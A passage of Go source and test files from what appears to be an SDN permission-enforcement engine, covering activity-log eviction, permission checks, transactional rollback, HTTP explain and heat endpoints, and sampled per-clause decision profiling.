		call, allowed := logCall(n)
		l.Record(call, allowed)
	}
	denials := l.Denials()
	if len(denials) != 2 { // n = 1, 3
		t.Fatalf("at capacity: %d denials, want 2", len(denials))
	}
	if denials[0].App != "app1" || denials[1].App != "app3" {
		t.Errorf("at capacity: wrong denials %v", denials)
	}

	// Past capacity: eviction must drop the oldest denials too.
	for n := capacity; n < 3*capacity; n++ {
		call, allowed := logCall(n)
		l.Record(call, allowed)
	}
	denials = l.Denials()
	// Retained records are n = 10..14; odd n are denied: 11, 13.
	if len(denials) != 2 {
		t.Fatalf("past capacity: %d denials, want 2", len(denials))
	}
	if denials[0].App != "app11" || denials[1].App != "app13" {
		t.Errorf("past capacity: wrong denials %v", denials)
	}
}

// TestActivityLogSnapshotFilter pins app/denies filtering against the
// same wraparound behaviour Records() has: only retained records are
// considered, and both filters compose.
func TestActivityLogSnapshotFilter(t *testing.T) {
	const capacity = 6
	l := NewActivityLog(capacity)
	// Two apps interleaved; "noisy" always denied, "good" always allowed.
	record := func(app string, allowed bool) {
		l.Record(&core.Call{App: app, Token: core.TokenInsertFlow}, allowed)
	}
	for n := 0; n < capacity; n++ {
		record("noisy", false)
		record("good", true)
	}
	// The ring wrapped (12 records into 6 slots): 3 of each app retained.
	if got := l.SnapshotFilter("", false); len(got) != capacity {
		t.Fatalf("unfiltered: %d records, want %d", len(got), capacity)
	}
	if got := l.SnapshotFilter("noisy", false); len(got) != 3 {
		t.Fatalf("app filter: %d records, want 3", len(got))
	}
	if got := l.SnapshotFilter("", true); len(got) != 3 {
		t.Fatalf("denies filter: %d records, want 3", len(got))
	}
	for _, r := range l.SnapshotFilter("noisy", true) {
		if r.App != "noisy" || r.Allowed {
			t.Fatalf("combined filter leaked record %+v", r)
		}
	}
	if got := l.SnapshotFilter("good", true); len(got) != 0 {
		t.Fatalf("good app has no denials, got %d", len(got))
	}
	if got := l.SnapshotFilter("absent", false); len(got) != 0 {
		t.Fatalf("unknown app matched %d records", len(got))
	}
	// Wrap again with only denials: the allowed records age out and the
	// filters must track the retained window, not history.
	for n := 0; n < capacity; n++ {
		record("noisy", false)
	}
	if got := l.SnapshotFilter("good", false); len(got) != 0 {
		t.Fatalf("evicted app still visible: %d records", len(got))
	}
	if got := l.SnapshotFilter("noisy", true); len(got) != capacity {
		t.Fatalf("after second wrap: %d denials, want %d", len(got), capacity)
	}
}

// TestActivityLogConcurrentRecordRecords hammers the log from writer and
// reader goroutines; the race detector (make check) is the real referee,
// the invariant checks catch torn snapshots.
func TestActivityLogConcurrentRecordRecords(t *testing.T) {
	l := NewActivityLog(64)
	const writers, readers, perWriter = 4, 4, 500
	var wg sync.WaitGroup
	for w := 0; w < writers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for n := 0; n < perWriter; n++ {
				call, allowed := logCall(w*perWriter + n)
				l.Record(call, allowed)
			}
		}(w)
	}
	for r := 0; r < readers; r++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for n := 0; n < perWriter; n++ {
				recs := l.Records()
				if len(recs) > 64 {
					t.Errorf("snapshot over capacity: %d", len(recs))
					return
				}
				for _, rec := range recs {
					if rec.App == "" {
						t.Error("torn record in snapshot")
						return
					}
				}
				_ = l.Denials()
				_ = l.Total()
			}
		}()
	}
	wg.Wait()
	if got := l.Total(); got != writers*perWriter {
		t.Errorf("Total = %d, want %d", got, writers*perWriter)
	}
}
