package permengine

import (
	"errors"
	"math/rand"
	"testing"

	"sdnshield/internal/core"
	"sdnshield/internal/of"
	"sdnshield/internal/permlang"
)

// fakeState is a scripted StateProvider.
type fakeState struct {
	owners map[string]string // match key -> owner
	counts map[string]int    // app -> count
}

func (f *fakeState) FlowOwner(dpid of.DPID, match *of.Match, priority uint16) (string, bool) {
	if f.owners == nil {
		return "", false
	}
	o, ok := f.owners[match.Key()]
	return o, ok
}

func (f *fakeState) RuleCount(app string, dpid of.DPID) int {
	if f.counts == nil {
		return 0
	}
	return f.counts[app]
}

func insertFlowCall(app string, dstIP of.IPv4, actions []of.Action) *core.Call {
	return &core.Call{
		App:         app,
		Token:       core.TokenInsertFlow,
		DPID:        1,
		HasDPID:     true,
		Match:       of.NewMatch().Set(of.FieldIPDst, uint64(dstIP)),
		Actions:     actions,
		Priority:    10,
		HasPriority: true,
	}
}

func TestCheckTokenAndFilter(t *testing.T) {
	e := New(&fakeState{})
	e.SetPermissions("router", permlang.MustParse(
		"PERM insert_flow LIMITING ACTION FORWARD AND OWN_FLOWS").Set())

	// Allowed: forward rule, fresh flow.
	call := insertFlowCall("router", of.IPv4FromOctets(10, 0, 0, 1), []of.Action{of.Output(2)})
	if err := e.Check(call); err != nil {
		t.Fatalf("forward rule denied: %v", err)
	}
	// Denied: drop action.
	call = insertFlowCall("router", of.IPv4FromOctets(10, 0, 0, 1), []of.Action{of.Drop()})
	var denied *DeniedError
	if err := e.Check(call); !errors.As(err, &denied) {
		t.Fatalf("drop rule should be denied, got %v", err)
	}
	if denied.App != "router" || denied.Token != core.TokenInsertFlow {
		t.Errorf("denied = %+v", denied)
	}
	// Denied: missing token.
	err := e.Check(&core.Call{App: "router", Token: core.TokenHostNetwork,
		HostIP: of.IPv4FromOctets(1, 1, 1, 1), HasHostIP: true})
	if !errors.As(err, &denied) {
		t.Fatal("ungranted token should deny")
	}
	// Denied: unknown app.
	err = e.Check(insertFlowCall("ghost", of.IPv4FromOctets(10, 0, 0, 1), []of.Action{of.Output(1)}))
	if !errors.As(err, &denied) {
		t.Fatal("unknown app should deny")
	}

	checks, denials := e.Stats()
	if checks != 4 || denials != 3 {
		t.Errorf("stats = (%d, %d)", checks, denials)
	}
}

func TestStatefulOwnershipResolution(t *testing.T) {
	firewallMatch := of.NewMatch().Set(of.FieldIPDst, uint64(of.IPv4FromOctets(10, 0, 0, 1)))
	state := &fakeState{owners: map[string]string{firewallMatch.Key(): "firewall"}}
	e := New(state)
	e.SetPermissions("router", permlang.MustParse(
		"PERM insert_flow LIMITING OWN_FLOWS").Set())

	// Inserting over the firewall's flow is denied via resolved ownership.
	call := insertFlowCall("router", of.IPv4FromOctets(10, 0, 0, 1), []of.Action{of.Output(2)})
	if err := e.Check(call); err == nil {
		t.Fatal("overriding a foreign flow must be denied")
	}
	// A fresh flow passes.
	call = insertFlowCall("router", of.IPv4FromOctets(10, 9, 9, 9), []of.Action{of.Output(2)})
	if err := e.Check(call); err != nil {
		t.Fatalf("fresh flow denied: %v", err)
	}
}

func TestStatefulRuleCountResolution(t *testing.T) {
	state := &fakeState{counts: map[string]int{"greedy": 10}}
	e := New(state)
	e.SetPermissions("greedy", permlang.MustParse(
		"PERM insert_flow LIMITING MAX_RULE_COUNT 10").Set())
	call := insertFlowCall("greedy", of.IPv4FromOctets(10, 0, 0, 1), []of.Action{of.Output(1)})
	if err := e.Check(call); err == nil {
		t.Fatal("rule count at cap must deny")
	}
	state.counts["greedy"] = 9
	call = insertFlowCall("greedy", of.IPv4FromOctets(10, 0, 0, 1), []of.Action{of.Output(1)})
	if err := e.Check(call); err != nil {
		t.Fatalf("below cap denied: %v", err)
	}
}

func TestHasTokenAndRemove(t *testing.T) {
	e := New(nil)
	e.SetPermissions("m", permlang.MustParse("PERM read_statistics").Set())
	if !e.HasToken("m", core.TokenReadStatistics) || e.HasToken("m", core.TokenInsertFlow) {
		t.Error("HasToken wrong")
	}
	if _, ok := e.Permissions("m"); !ok {
		t.Error("Permissions lookup failed")
	}
	e.RemoveApp("m")
	if e.HasToken("m", core.TokenReadStatistics) {
		t.Error("removed app retains tokens")
	}
}

func TestCompiledMatchesInterpreted(t *testing.T) {
	// The compiled closures must agree with core's interpreted Eval on
	// random expressions and calls.
	r := rand.New(rand.NewSource(5))
	pool := []core.Filter{
		core.NewPredFilter(of.FieldIPDst, uint64(of.IPv4FromOctets(10, 13, 0, 0)), uint64(of.PrefixMask(16))),
		core.NewActionFilter(core.ActionClassForward),
		core.NewOwnerFilter(true),
		core.NewMaxPriorityFilter(50),
		core.NewPktOutFilter(false),
		core.NewStatsFilter(of.StatsPort),
	}
	var build func(depth int) core.Expr
	build = func(depth int) core.Expr {
		if depth == 0 || r.Intn(3) == 0 {
			return core.NewLeaf(pool[r.Intn(len(pool))])
		}
		switch r.Intn(3) {
		case 0:
			return &core.And{L: build(depth - 1), R: build(depth - 1)}
		case 1:
			return &core.Or{L: build(depth - 1), R: build(depth - 1)}
		default:
			return &core.Not{X: build(depth - 1)}
		}
	}
	for i := 0; i < 2000; i++ {
		expr := build(3)
		compiledFn := compileExpr(expr)
		call := &core.Call{
			App:           "me",
			Token:         core.TokenInsertFlow,
			DPID:          1,
			HasDPID:       true,
			Match:         of.NewMatch().Set(of.FieldIPDst, uint64(of.IPv4FromOctets(10, byte(13+r.Intn(2)), 0, 1))),
			Actions:       [][]of.Action{{of.Output(1)}, {of.Drop()}, {}}[r.Intn(3)],
			Priority:      uint16(r.Intn(100)),
			HasPriority:   true,
			FlowOwner:     []string{"me", "other", ""}[r.Intn(3)],
			HasFlowOwner:  true,
			FromPktIn:     r.Intn(2) == 0,
			HasProvenance: true,
			StatsLevel:    []of.StatsType{of.StatsFlow, of.StatsPort, of.StatsSwitch}[r.Intn(3)],
		}
		if compiledFn(call) != expr.Eval(call) {
			t.Fatalf("compiled/interpreted divergence on %s for %s", expr, call)
		}
	}
}

func TestUnresolvedMacroDenies(t *testing.T) {
	e := New(nil)
	e.SetPermissions("m", permlang.MustParse("PERM host_network LIMITING AdminRange").Set())
	err := e.Check(&core.Call{App: "m", Token: core.TokenHostNetwork,
		HostIP: of.IPv4FromOctets(10, 1, 0, 1), HasHostIP: true})
	if err == nil {
		t.Fatal("unresolved macro must deny at runtime")
	}
}

func TestActivityLog(t *testing.T) {
	e := New(nil, WithActivityLog(3))
	e.SetPermissions("m", permlang.MustParse("PERM read_statistics LIMITING PORT_LEVEL").Set())

	allow := &core.Call{App: "m", Token: core.TokenReadStatistics, StatsLevel: of.StatsPort}
	deny := &core.Call{App: "m", Token: core.TokenReadStatistics, StatsLevel: of.StatsFlow}
	e.Check(allow)
	e.Check(deny)
	e.Check(allow)
	e.Check(deny) // 4 records into capacity 3: oldest evicted

	log := e.Log()
	if log.Total() != 4 {
		t.Errorf("Total = %d", log.Total())
	}
	recs := log.Records()
	if len(recs) != 3 {
		t.Fatalf("retained %d", len(recs))
	}
	// Oldest-first: deny, allow, deny.
	if recs[0].Allowed || !recs[1].Allowed || recs[2].Allowed {
		t.Errorf("order wrong: %v", recs)
	}
	if len(log.Denials()) != 2 {
		t.Errorf("denials = %v", log.Denials())
	}
	if recs[0].String() == "" {
		t.Error("empty record rendering")
	}
}

func TestTransactionCommit(t *testing.T) {
	e := New(nil)
	e.SetPermissions("app", permlang.MustParse("PERM insert_flow LIMITING MAX_PRIORITY 100").Set())

	var applied []int
	mkCall := func(prio uint16) *core.Call {
		c := insertFlowCall("app", of.IPv4FromOctets(10, 0, 0, 1), []of.Action{of.Output(1)})
		c.Priority = prio
		return c
	}
	plan := func(id int, prio uint16, failApply bool) PlannedCall {
		call := mkCall(prio)
		return PlannedCall{
			Call:  call,
			Check: func() error { return e.Check(call) },
			Apply: func() error {
				if failApply {
					return errors.New("switch rejected")
				}
				applied = append(applied, id)
				return nil
			},
			Revert: func() error {
				for i, a := range applied {
					if a == id {
						applied = append(applied[:i], applied[i+1:]...)
						break
					}
				}
				return nil
			},
		}
	}

	// All-pass transaction.
	tx := NewTx().Add(plan(1, 10, false)).Add(plan(2, 20, false))
	if err := tx.Commit(); err != nil {
		t.Fatalf("commit: %v", err)
	}
	if len(applied) != 2 {
		t.Fatalf("applied = %v", applied)
	}

	// Check failure: nothing applied (the paper's problematic
	// intermediate state is avoided).
	applied = nil
	tx = NewTx().Add(plan(1, 10, false)).Add(plan(2, 999, false))
	err := tx.Commit()
	var txErr *TxError
	if !errors.As(err, &txErr) || txErr.Stage != "check" || txErr.Index != 1 {
		t.Fatalf("err = %v", err)
	}
	var denied *DeniedError
	if !errors.As(err, &denied) {
		t.Error("cause should unwrap to DeniedError")
	}
	if len(applied) != 0 {
		t.Fatalf("applied despite check failure: %v", applied)
	}

	// Apply failure: rollback of the applied prefix.
	applied = nil
	tx = NewTx().Add(plan(1, 10, false)).Add(plan(2, 20, true)).Add(plan(3, 30, false))
	err = tx.Commit()
	if !errors.As(err, &txErr) || txErr.Stage != "apply" || txErr.Index != 1 {
		t.Fatalf("err = %v", err)
	}
	if len(applied) != 0 {
		t.Fatalf("rollback incomplete: %v", applied)
	}
	if tx.Len() != 3 {
		t.Errorf("Len = %d", tx.Len())
	}
}

func TestTransactionRollbackErrorSurfaces(t *testing.T) {
	tx := NewTx().
		Add(PlannedCall{
			Apply:  func() error { return nil },
			Revert: func() error { return errors.New("revert failed") },
		}).
		Add(PlannedCall{Apply: func() error { return errors.New("boom") }})
	err := tx.Commit()
	var txErr *TxError
	if !errors.As(err, &txErr) || len(txErr.RollbackErrors) != 1 {
		t.Fatalf("err = %v", err)
	}
	if txErr.Error() == "" {
		t.Error("empty error text")
	}
}
