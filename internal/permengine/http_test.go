package permengine

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"sdnshield/internal/core"
	"sdnshield/internal/of"
	"sdnshield/internal/permlang"
)

// httpTestEngine registers one engine with a denial retained under
// corr 777 and heat recorded at sampling 1.
func httpTestEngine(t *testing.T) *Engine {
	t.Helper()
	prevEnabled := SetHeatEnabled(true)
	prevEvery := SetHeatSampling(1)
	e := New(nil)
	unreg := RegisterEngine("http-test", e)
	t.Cleanup(func() {
		unreg()
		SetHeatEnabled(prevEnabled)
		SetHeatSampling(prevEvery)
	})
	e.SetPermissions("m", permlang.MustParse(
		"PERM insert_flow LIMITING MAX_PRIORITY 100 AND ACTION FORWARD").Set())
	allow := insertFlowCall("m", of.IPv4FromOctets(10, 0, 0, 1), []of.Action{of.Output(1)})
	allow.Priority = 50
	if err := e.Check(allow); err != nil {
		t.Fatal(err)
	}
	deny := insertFlowCall("m", of.IPv4FromOctets(10, 0, 0, 1), []of.Action{of.Output(1)})
	deny.Priority = 200
	deny.Corr = 777
	if err := e.Check(deny); err == nil {
		t.Fatal("deny call allowed")
	}
	return e
}

func TestHeatEndpoint(t *testing.T) {
	httpTestEngine(t)
	rec := httptest.NewRecorder()
	handleHeat(rec, httptest.NewRequest(http.MethodGet, "/heat?engine=http-test", nil))
	if rec.Code != http.StatusOK {
		t.Fatalf("status %d: %s", rec.Code, rec.Body)
	}
	var out struct {
		Enabled bool                   `json:"enabled"`
		Engines map[string]HeatProfile `json:"engines"`
	}
	if err := json.Unmarshal(rec.Body.Bytes(), &out); err != nil {
		t.Fatal(err)
	}
	if !out.Enabled {
		t.Fatal("heat reported disabled")
	}
	p, ok := out.Engines["http-test"]
	if !ok {
		t.Fatalf("engine missing from /heat: %s", rec.Body)
	}
	th := tokenHeatOf(t, p, "m", core.TokenInsertFlow)
	if th.Allow != 1 || th.Deny != 1 {
		t.Fatalf("heat over HTTP: allow=%d deny=%d", th.Allow, th.Deny)
	}

	rec = httptest.NewRecorder()
	handleHeat(rec, httptest.NewRequest(http.MethodGet, "/heat?engine=nope", nil))
	if rec.Code != http.StatusNotFound {
		t.Fatalf("unknown engine status %d", rec.Code)
	}
}

func TestExplainEndpointByCorr(t *testing.T) {
	httpTestEngine(t)
	rec := httptest.NewRecorder()
	handleExplain(rec, httptest.NewRequest(http.MethodGet, "/explain?corr=777", nil))
	if rec.Code != http.StatusOK {
		t.Fatalf("status %d: %s", rec.Code, rec.Body)
	}
	var out explainResponse
	if err := json.Unmarshal(rec.Body.Bytes(), &out); err != nil {
		t.Fatal(err)
	}
	if out.Engine != "http-test" {
		t.Fatalf("engine = %q", out.Engine)
	}
	ex := out.Explanation
	if ex.Allowed || ex.Reason != ReasonFilterRejected || len(ex.FailingClauses) == 0 {
		t.Fatalf("explanation: %+v", ex)
	}
	if ex.Corr != 777 {
		t.Fatalf("corr = %d", ex.Corr)
	}

	// Index lists the retained denial.
	rec = httptest.NewRecorder()
	handleExplain(rec, httptest.NewRequest(http.MethodGet, "/explain", nil))
	if rec.Code != http.StatusOK || !strings.Contains(rec.Body.String(), `"corr": 777`) {
		t.Fatalf("index status %d body %s", rec.Code, rec.Body)
	}

	// Unknown corr is a 404.
	rec = httptest.NewRecorder()
	handleExplain(rec, httptest.NewRequest(http.MethodGet, "/explain?corr=31337", nil))
	if rec.Code != http.StatusNotFound {
		t.Fatalf("unknown corr status %d", rec.Code)
	}
}

func TestExplainEndpointPost(t *testing.T) {
	httpTestEngine(t)
	body := `{
		"engine": "http-test",
		"app": "m",
		"token": "insert_flow",
		"dpid": 1,
		"match": {"IP_DST": "10.0.0.1"},
		"actions": ["OUTPUT:1"],
		"priority": 200,
		"flow_owner": "m"
	}`
	rec := httptest.NewRecorder()
	handleExplain(rec, httptest.NewRequest(http.MethodPost, "/explain", strings.NewReader(body)))
	if rec.Code != http.StatusOK {
		t.Fatalf("status %d: %s", rec.Code, rec.Body)
	}
	var out explainResponse
	if err := json.Unmarshal(rec.Body.Bytes(), &out); err != nil {
		t.Fatal(err)
	}
	if out.Explanation.Allowed || out.Explanation.Reason != ReasonFilterRejected {
		t.Fatalf("hypothetical denial: %+v", out.Explanation)
	}

	// Same call under the priority bound is allowed.
	rec = httptest.NewRecorder()
	handleExplain(rec, httptest.NewRequest(http.MethodPost, "/explain",
		strings.NewReader(strings.Replace(body, `"priority": 200`, `"priority": 50`, 1))))
	if rec.Code != http.StatusOK {
		t.Fatalf("status %d: %s", rec.Code, rec.Body)
	}
	out = explainResponse{}
	if err := json.Unmarshal(rec.Body.Bytes(), &out); err != nil {
		t.Fatal(err)
	}
	if !out.Explanation.Allowed {
		t.Fatalf("hypothetical allow: %+v", out.Explanation)
	}

	// A garbage body is a 400, not a panic.
	rec = httptest.NewRecorder()
	handleExplain(rec, httptest.NewRequest(http.MethodPost, "/explain", strings.NewReader("{")))
	if rec.Code != http.StatusBadRequest {
		t.Fatalf("garbage body status %d", rec.Code)
	}
}
