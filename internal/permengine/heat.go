package permengine

// Decision-heat profiles (§IX forward work): sampled, sharded,
// pointer-free counters recording how permission checks actually spend
// their time — which clauses of which tokens' filter expressions are
// evaluated, which short-circuit, which decide the verdict, and how long
// each clause costs. The profile is the input a future compiled engine
// consumes (ROADMAP item 1): a clause that decides 99% of denials should
// be hoisted first; a dimension that never fails can be dropped from the
// fast path.
//
// Cost model: the unsampled majority of checks pays exactly one atomic
// add (the sampler tick) on top of the existing fused-closure path. One
// check in N (SetHeatSampling, default 64) takes the instrumented route:
// the same clause conjunction evaluated clause-by-clause with per-clause
// timing. Both routes produce identical verdicts, denial detail strings,
// activity-log records and audit events.

import (
	"sort"
	"sync/atomic"
	"time"
	"unsafe"

	"sdnshield/internal/core"
	"sdnshield/internal/obs"
)

// heatShards stripes the per-clause counter slab. Sampled hits are rare
// (1-in-64 by default), so a small fixed stripe count is enough to keep
// concurrent deputies off each other's cache lines without bloating the
// per-app footprint.
const heatShards = 4

// Per-clause counter slots within the flat slab.
const (
	heatCellEvals = iota // clause actually evaluated
	heatCellPass
	heatCellFail
	heatCellShort // skipped because an earlier clause already failed
	heatCellBracket0
	heatCells = heatCellBracket0 + heatBracketCount
)

// heatBracketCount latency brackets per clause: ≤256ns, ≤1µs, ≤4µs,
// ≤16µs, ≤64µs, >64µs (power-of-4 spacing brackets the ~300–400ns
// whole-check budget from both sides).
const heatBracketCount = 6

var heatBracketBounds = [heatBracketCount - 1]int64{256, 1024, 4096, 16384, 65536}

func heatBracketIdx(ns int64) int {
	for i, b := range heatBracketBounds {
		if ns <= b {
			return i
		}
	}
	return heatBracketCount - 1
}

// heatPad is one cache-line-padded counter cell for the per-token
// allow/deny totals.
type heatPad struct {
	v atomic.Uint64
	_ [56]byte
}

// heatClause is one top-level conjunct of a token's filter expression,
// compiled to its own closure. The conjunction of the clause closures is
// semantically identical to the token's fused checker (both lower via
// compile with left-to-right && evaluation), so the instrumented path
// cannot disagree with the fast path.
type heatClause struct {
	expr  string
	dims  []string
	raw   core.Expr
	check checker
}

// tokenHeat carries one (app, token)'s heat counters: a pointer-free
// shard-major slab of atomic cells, heatCells per clause, plus padded
// allow/deny totals. Allocated once at compile time; writers only ever
// atomically add.
type tokenHeat struct {
	clauses []heatClause
	allow   [heatShards]heatPad
	deny    [heatShards]heatPad
	cells   []atomic.Uint64 // heatShards × len(clauses) × heatCells, shard-major
}

func newTokenHeat(filter core.Expr) *tokenHeat {
	var cls []heatClause
	for _, c := range conjuncts(filter) {
		cls = append(cls, heatClause{
			expr:  core.ExprString(c),
			dims:  leafDims(c),
			raw:   c,
			check: compileExpr(c),
		})
	}
	return &tokenHeat{
		clauses: cls,
		cells:   make([]atomic.Uint64, heatShards*len(cls)*heatCells),
	}
}

// cell indexes the slab: shard-major so one sampled check touches a
// contiguous region owned by its stripe.
func (th *tokenHeat) cell(shard, clause, slot int) *atomic.Uint64 {
	return &th.cells[(shard*len(th.clauses)+clause)*heatCells+slot]
}

// conjuncts flattens a top-level AND chain into its clause list,
// preserving the left-to-right order the fused closure evaluates in.
// Non-AND roots (Or, Not, Leaf, MacroRef, nil) are a single clause.
func conjuncts(e core.Expr) []core.Expr {
	if a, ok := e.(*core.And); ok {
		return append(conjuncts(a.L), conjuncts(a.R)...)
	}
	return []core.Expr{e}
}

// leafDims collects the distinct filter dimensions a clause touches,
// sorted for stable output. Unresolved macros surface as "macro".
func leafDims(e core.Expr) []string {
	seen := make(map[string]bool)
	var walk func(core.Expr)
	walk = func(e core.Expr) {
		switch v := e.(type) {
		case *core.Leaf:
			seen[v.F.Dimension()] = true
		case *core.Not:
			walk(v.X)
		case *core.And:
			walk(v.L)
			walk(v.R)
		case *core.Or:
			walk(v.L)
			walk(v.R)
		case *core.MacroRef:
			seen["macro"] = true
		}
	}
	walk(e)
	out := make([]string, 0, len(seen))
	for d := range seen {
		out = append(out, d)
	}
	sort.Strings(out)
	return out
}

// ---------------------------------------------------------------------------
// Sampling

var (
	heatEnabled atomic.Bool
	heatEvery   atomic.Int64
	heatTick    atomic.Uint64
	// heatSampled counts checks that took the instrumented route;
	// consumers scale clause counts back to full rate with
	// total-checks / heatSampled.
	heatSampled atomic.Uint64
)

func init() {
	heatEnabled.Store(true)
	heatEvery.Store(64)
}

// HeatEnabled reports whether heat profiling is live.
func HeatEnabled() bool { return heatEnabled.Load() }

// SetHeatEnabled flips heat profiling and returns the previous state.
// Counters are retained across off/on cycles.
func SetHeatEnabled(v bool) bool { return heatEnabled.Swap(v) }

// SetHeatSampling sets the 1-in-N rate at which checks take the
// instrumented per-clause route; n <= 1 profiles every check (tests and
// the heat bench use this for exact counts). Returns the previous rate.
func SetHeatSampling(n int) int {
	if n < 1 {
		n = 1
	}
	return int(heatEvery.Swap(int64(n)))
}

// HeatSampling returns the current 1-in-N heat sampling rate.
func HeatSampling() int { return int(heatEvery.Load()) }

// heatHit decides whether this check is profiled. Cost on the unsampled
// path: one atomic load + one atomic add.
func heatHit() bool {
	if !heatEnabled.Load() || !obs.On() {
		return false
	}
	every := heatEvery.Load()
	if every <= 1 {
		return true
	}
	return heatTick.Add(1)%uint64(every) == 0
}

// heatShard picks the caller's stripe off a stack-address hash, the same
// trick obs uses: distinct goroutines live on distinct stacks.
func heatShard() int {
	var b byte
	h := uint64(uintptr(unsafe.Pointer(&b)))
	h ^= h >> 12
	h *= 0x9e3779b97f4a7c15
	return int(h>>62) & (heatShards - 1)
}

// ---------------------------------------------------------------------------
// Instrumented check path

// checkProfiled is the sampled twin of Check: same verdict, same
// counters, same audit surface, plus per-clause heat recording.
func (e *Engine) checkProfiled(call *core.Call) error {
	heatSampled.Add(1)
	var t obs.Timer
	if checkSampler.Hit() {
		t = obs.StartTimer()
	}
	err := e.evaluateProfiled(call)
	mCheckSeconds.ObserveTimer(t)
	countCheck(call.Token, err == nil)
	return err
}

func (e *Engine) evaluateProfiled(call *core.Call) error {
	e.checks.Add(1)
	e.mu.RLock()
	c, ok := e.apps[call.App]
	e.mu.RUnlock()
	if !ok {
		e.heatNoManifest.Add(1)
		e.denials.Add(1)
		e.retainDenial(call)
		e.logDecision(call, false, "app has no permission manifest")
		return &DeniedError{App: call.App, Token: call.Token, Detail: "app has no permission manifest"}
	}
	th := c.heat[call.Token]
	if th == nil {
		e.heatUngranted.Add(1)
		e.denials.Add(1)
		e.retainDenial(call)
		e.logDecision(call, false, "token not granted")
		return &DeniedError{App: call.App, Token: call.Token, Detail: "token not granted"}
	}
	e.Resolve(call)
	shard := heatShard()
	failed := false
	for i := range th.clauses {
		if failed {
			th.cell(shard, i, heatCellShort).Add(1)
			continue
		}
		start := time.Now()
		pass := th.clauses[i].check(call)
		ns := time.Since(start).Nanoseconds()
		th.cell(shard, i, heatCellEvals).Add(1)
		th.cell(shard, i, heatCellBracket0+heatBracketIdx(ns)).Add(1)
		if pass {
			th.cell(shard, i, heatCellPass).Add(1)
		} else {
			th.cell(shard, i, heatCellFail).Add(1)
			failed = true
		}
	}
	if failed {
		th.deny[shard].v.Add(1)
		detail := "filter rejected call " + call.String()
		e.denials.Add(1)
		e.retainDenial(call)
		e.logDecision(call, false, detail)
		return &DeniedError{App: call.App, Token: call.Token, Detail: detail}
	}
	th.allow[shard].v.Add(1)
	e.logDecision(call, true, "")
	return nil
}

// ---------------------------------------------------------------------------
// Snapshots

// HeatBrackets is one clause's latency distribution over the sampled
// evaluations, in fixed nanosecond brackets.
type HeatBrackets struct {
	LE256ns uint64 `json:"le_256ns"`
	LE1us   uint64 `json:"le_1us"`
	LE4us   uint64 `json:"le_4us"`
	LE16us  uint64 `json:"le_16us"`
	LE64us  uint64 `json:"le_64us"`
	GT64us  uint64 `json:"gt_64us"`
}

// ClauseHeat is one clause's sampled counters.
type ClauseHeat struct {
	Index         int          `json:"index"`
	Expr          string       `json:"expr"`
	Dimensions    []string     `json:"dimensions"`
	Evals         uint64       `json:"evals"`
	Pass          uint64       `json:"pass"`
	Fail          uint64       `json:"fail"`
	ShortCircuits uint64       `json:"short_circuits"`
	Latency       HeatBrackets `json:"latency"`
}

// TokenHeat is one (app, token)'s sampled decision heat.
type TokenHeat struct {
	Token   string       `json:"token"`
	Allow   uint64       `json:"allow"`
	Deny    uint64       `json:"deny"`
	Clauses []ClauseHeat `json:"clauses"`
}

// AppHeat is one app's heat profile.
type AppHeat struct {
	App    string      `json:"app"`
	Tokens []TokenHeat `json:"tokens"`
}

// HeatProfile is an engine's full decision-heat snapshot — the
// profile-guided input for the compiled engine.
type HeatProfile struct {
	Enabled       bool      `json:"enabled"`
	SamplingEvery int       `json:"sampling_every"`
	SampledChecks uint64    `json:"sampled_checks"`
	NoManifest    uint64    `json:"deny_no_manifest"`
	Ungranted     uint64    `json:"deny_token_not_granted"`
	Apps          []AppHeat `json:"apps"`
}

// HeatSnapshot sums the sharded counters into a stable, sorted profile.
// Counters reset when an app's permission set is replaced (a new set is a
// new profile).
func (e *Engine) HeatSnapshot() HeatProfile {
	p := HeatProfile{
		Enabled:       HeatEnabled(),
		SamplingEvery: HeatSampling(),
		SampledChecks: heatSampled.Load(),
		NoManifest:    e.heatNoManifest.Load(),
		Ungranted:     e.heatUngranted.Load(),
	}
	e.mu.RLock()
	apps := make(map[string]*compiled, len(e.apps))
	for name, c := range e.apps {
		apps[name] = c
	}
	e.mu.RUnlock()
	for name, c := range apps {
		ah := AppHeat{App: name}
		for tok, th := range c.heat {
			ah.Tokens = append(ah.Tokens, th.snapshot(tok))
		}
		sort.Slice(ah.Tokens, func(i, j int) bool { return ah.Tokens[i].Token < ah.Tokens[j].Token })
		p.Apps = append(p.Apps, ah)
	}
	sort.Slice(p.Apps, func(i, j int) bool { return p.Apps[i].App < p.Apps[j].App })
	return p
}

func (th *tokenHeat) snapshot(tok core.Token) TokenHeat {
	out := TokenHeat{Token: tok.String()}
	for s := 0; s < heatShards; s++ {
		out.Allow += th.allow[s].v.Load()
		out.Deny += th.deny[s].v.Load()
	}
	for i, cl := range th.clauses {
		ch := ClauseHeat{Index: i, Expr: cl.expr, Dimensions: cl.dims}
		var brackets [heatBracketCount]uint64
		for s := 0; s < heatShards; s++ {
			ch.Evals += th.cell(s, i, heatCellEvals).Load()
			ch.Pass += th.cell(s, i, heatCellPass).Load()
			ch.Fail += th.cell(s, i, heatCellFail).Load()
			ch.ShortCircuits += th.cell(s, i, heatCellShort).Load()
			for b := 0; b < heatBracketCount; b++ {
				brackets[b] += th.cell(s, i, heatCellBracket0+b).Load()
			}
		}
		ch.Latency = HeatBrackets{
			LE256ns: brackets[0], LE1us: brackets[1], LE4us: brackets[2],
			LE16us: brackets[3], LE64us: brackets[4], GT64us: brackets[5],
		}
		out.Clauses = append(out.Clauses, ch)
	}
	return out
}
