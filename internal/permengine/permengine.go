// Package permengine implements SDNShield's runtime permission engine
// (§VI-B): it compiles permission sets into per-token checking closures,
// resolves the stateful attributes of each mediated API call (flow
// ownership, per-app rule counts), enforces the checks, keeps the
// forensic activity log mentioned in §VII, and provides the transactional
// API-call facility (§VI-B2).
package permengine

import (
	"fmt"
	"sync"
	"sync/atomic"

	"sdnshield/internal/core"
	"sdnshield/internal/obs"
	"sdnshield/internal/obs/audit"
	"sdnshield/internal/of"
)

// DeniedError reports a permission-denied API call. Apps are expected to
// match it (errors.As) and degrade gracefully rather than crash (§III).
type DeniedError struct {
	App    string
	Token  core.Token
	Detail string
}

// Error implements error.
func (e *DeniedError) Error() string {
	return fmt.Sprintf("permission denied: app %q lacks %s (%s)", e.App, e.Token, e.Detail)
}

// StateProvider supplies the permission engine with the controller state
// that stateful filters inspect: who owns a flow and how many rules an
// app holds on a switch. The controller kernel's shadow flow tables
// implement it.
